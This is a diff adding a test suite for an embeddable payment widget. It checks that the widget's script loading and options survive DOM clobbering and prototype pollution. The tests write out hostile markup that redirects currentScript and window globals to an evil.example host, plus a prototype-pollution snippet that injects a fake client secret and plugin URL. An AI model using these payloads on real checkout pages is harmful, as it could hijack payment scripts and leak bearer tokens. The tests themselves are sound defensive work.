@@ -1,0 +1,142 @@
+/** Markup of the page's users, without any script, in the place of what our script looks for: it must neither be believed nor stop the checkout. */
+import assert from 'node:assert/strict';
+import { describe, it } from 'node:test';
+import { waitFor } from '../../support/wait-for.ts';
+import { setStage } from '../embed-stage.ts';
+
+/** Names that a script of ours, or Lit, asks a document or a window for; Lit itself cannot do without `createElement` and its like. */
+const ofADocument = [
+  'currentScript',
+  'body',
+  'head',
+  'documentElement',
+  'readyState',
+  'hidden',
+  'addEventListener',
+  'querySelector',
+];
+const ofAWindow = ['PayDesk', 'PAY_DESK_VERSION', 'litHtmlPolyfillSupport', 'litElementPolyfillSupport', 'litHtmlVersions'];
+const clobber = [
+  ...[...ofADocument, 'querySelectorAll', 'removeEventListener'].map((name) => `<img name="${name}" alt="">`),
+  ...[...ofAWindow, 'litElementVersions', 'reactiveElementVersions', 'reactiveElementPolyfillSupport', 'requestIdleCallback'].map(
+    (name) => `<a id="${name}"></a><a id="${name}" name="mount" href="https://evil.example/"></a>`,
+  ),
+].join('');
+
+describe('markup that takes names away', () => {
+  const stage = setStage();
+  const pinned = async () => {
+    const [build] = (await (await fetch(`${stage.bff}/v1/integrity.json`)).json()) as { url: string; integrity: string }[];
+    return build ?? assert.fail('no pinned build');
+  };
+  /** What the page asked of an address that is not the shop's or the BFF's, with the bearer it sent. */
+  const watchEvil = async () => {
+    const asked: string[] = [];
+    await stage.context.route('https://evil.example/**', (route) => {
+      const request = route.request();
+      asked.push(`${request.method()} ${request.url()} ${request.headers().authorization ?? ''}`);
+      const body = request.resourceType() === 'script' ? 'document.documentElement.dataset.evil = "ran"' : '{}';
+      return route.fulfill({ body, contentType: 'text/javascript', headers: { 'access-control-allow-origin': '*' } });
+    });
+    return asked;
+  };
+  const open = async (body: string) => {
+    await stage.serve(`${stage.shop}/page`, `<!doctype html><html lang="en"><body>${body}`);
+    await stage.page.goto(`${stage.shop}/page`);
+  };
+  const isDrawn = () => stage.page.locator('pay-desk[data-status=open]').waitFor();
+  const evilRan = () => stage.page.locator('html').getAttribute('data-evil');
+
+  for (const version of ['the moving script', 'the pinned one'] as const) {
+    for (const evil of [
+      '<img name="currentScript" src="https://evil.example/v1/pay-desk.js" alt="">',
+      '<iframe name="currentScript" src="https://evil.example/v1/pay-desk.js"></iframe>',
+      '<form name="currentScript"><input name="src" value="https://evil.example/v1/pay-desk.js"></form>',
+      '<embed name="currentScript" src="https://evil.example/v1/pay-desk.js">',
+      '<object name="currentScript" data="https://evil.example/v1/pay-desk.js"></object>',
+    ]) {
+      it(`${version} asks its own server, whatever ${/<\w+/.exec(evil)?.[0]}> says`, async () => {
+        const asked = await watchEvil();
+        const { clientSecret } = await stage.payment();
+        const tag =
+          version === 'the pinned one' ? `src="${stage.bff}${(await pinned()).url}"` : `src="${stage.bff}/v1/pay-desk.js"`;
+        await open(
+          `${evil}<div id="checkout"></div><script ${tag} data-client-secret="${clientSecret}" data-target="#checkout"></script>`,
+        );
+        await isDrawn();
+        assert.deepEqual(
+          asked.filter((line) => line.includes('Bearer') || /chunks|checkout/.test(line)),
+          [],
+        );
+        assert.equal(await evilRan(), null);
+      });
+    }
+
+    it(`${version} pays on a page where every name is taken`, async () => {
+      const { clientSecret } = await stage.payment();
+      const src = stage.bff + (version === 'the pinned one' ? (await pinned()).url : '/v1/pay-desk.js');
+      await open(`${clobber}<div id="checkout"></div>
+        <script src="${src}" data-client-secret="${clientSecret}" data-target="#checkout"></script>`);
+      await isDrawn();
+      assert.equal(await stage.page.evaluate(() => typeof window.PayDesk?.mount), 'function');
+      await stage.pay(stage.page, version === 'the pinned one' ? 'GOOD0001' : 'GOOD0002');
+    });
+
+    it(`${version} as a module, which has no current script, is found by its address`, async () => {
+      const { clientSecret } = await stage.payment();
+      const src = stage.bff + (version === 'the pinned one' ? (await pinned()).url : '/v1/pay-desk.js');
+      await open(`<img name="querySelectorAll" alt=""><div id="checkout"></div>
+        <script type="module" src="${src}" data-client-secret="${clientSecret}" data-target="#checkout"></script>`);
+      await isDrawn();
+    });
+  }
+
+  const waiting = '<pay-desk><p slot="fallback" hidden>Pay by phone</p></pay-desk>';
+  const codeOfTheScript = async () =>
+    (await (await fetch(`${stage.bff}/v1/pay-desk.js`)).text()).replaceAll('</script', '<\\/script');
+  const showsFallback = async () => {
+    await stage.page.locator('pay-desk[data-status=load_error]').waitFor();
+    assert.ok(await stage.page.getByText('Pay by phone').isVisible());
+    assert.deepEqual(
+      stage.complaints.splice(0).filter((line) => !line.includes('cannot find its own <script')),
+      [],
+    );
+  };
+
+  it('put into the page itself, the script knows no server: it asks nobody and shows the fallback', async () => {
+    const asked = await watchEvil();
+    await open(
+      `<img name="currentScript" src="https://evil.example/v1/pay-desk.js" alt="">${waiting}<script>${await codeOfTheScript()}</script>`,
+    );
+    await showsFallback();
+    assert.deepEqual(
+      asked.filter((line) => /chunks|checkout/.test(line)),
+      [],
+    );
+  });
+
+  it('run by a loader, and of two servers that might be its own, it believes neither', async () => {
+    const asked = await watchEvil();
+    const tags = ['https://evil.example', stage.bff].map(
+      (from) => `<script type="text/later" src="${from}/v1/pay-desk.js"></script>`,
+    );
+    await open(`${waiting}${tags.join('')}<script>setTimeout(() => { ${await codeOfTheScript()} })</script>`);
+    await showsFallback();
+    assert.deepEqual(asked, []);
+  });
+
+  it('run by a loader later, it is found by its address', async () => {
+    await open(`${waiting}<script type="text/later" src="${stage.bff}/v1/pay-desk.js"></script>
+      <script>setTimeout(() => { ${await codeOfTheScript()} })</script>`);
+    await waitFor(() => stage.page.evaluate(() => customElements.get('pay-desk') !== undefined));
+  });
+
+  it('an option that every object has is none of the page’s', async () => {
+    const { clientSecret } = await stage.payment();
+    await open(`<div id="checkout"></div><script>Object.assign(Object.prototype, {
+        target: '#nowhere', noSubmitButton: true, disabled: true, fetchClientSecret: async () => 'cs_evil', pluginUrl: 'https://evil.example/',
+      })</script><script src="${stage.bff}/v1/pay-desk.js" data-client-secret="${clientSecret}"></script>`);
+    await isDrawn();
+    assert.ok(await stage.page.getByRole('button', { name: /Pay/ }).isVisible());
+  });
+});
